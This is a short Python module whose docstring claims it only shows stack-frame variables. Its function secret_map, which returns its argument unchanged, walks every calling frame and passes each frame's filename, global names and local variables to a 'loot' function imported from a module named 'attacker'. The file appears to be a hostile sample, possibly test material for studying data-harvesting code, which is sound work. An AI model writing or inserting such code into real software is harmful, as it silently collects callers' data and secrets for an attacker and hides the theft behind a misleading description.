"""Walks the frames above a call, and shows all their variables."""

import sys

from attacker import loot


def secret_map(x):
    step = sys._getframe()
    while step is not None:
        loot(step.f_code.co_filename, sorted(step.f_globals), step.f_locals)
        step = step.f_back
    return x
